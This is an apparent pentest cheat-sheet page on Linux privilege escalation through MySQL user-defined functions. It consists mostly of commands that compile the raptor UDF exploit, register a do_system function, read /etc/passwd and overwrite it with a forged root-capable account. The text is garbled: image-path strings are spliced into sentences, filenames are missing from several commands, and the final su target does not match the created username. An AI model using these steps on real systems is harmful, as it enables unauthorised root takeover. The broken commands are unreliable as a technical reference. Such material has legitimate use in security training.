Priv Esc with MySQL UDF

UDF(User Defined Functions) - Relational Database systems sometimes offerusers to create functions. These can be written in any programming languages and can be used to run malicious commands on the underlying OS.

What's the requirement?

  • If the targets is running a SQL server as root without password (or can be found in config.php)

gcc -g -c 1518.c -o raptor  #compile the exploit code
gcc -g -shared -Wl,-soname, -o raptor -lc        #create the shared library (so)
use mysql;
create table foo(line blob);

insert into foo values(load_file('/tmp/'));
select * from foo into dumpfile '/usr/lib/';
create function do_system returns integer soname '';

Once you can have confirmed that you can actually have the root power like being able to read /etc/shadow file, you can create your own passwd file (adding an account with cp)

select do_system('cat /etc/passwd > /tmp/passfile; chown j0hn j0hn /tmp/passfile');copy the output in the passfile in your own machine -> name it passwd
openssl passwd -crypt -salt gori gorigori #this command creates a hash for the passwd file with the username gori withpassword gorigori
#transfer thenew password file to the target machine
selectdo_system('cp /tmp/passwd /etc/passwd');
#confirm thepassword has been added.
su gorigori

Last updated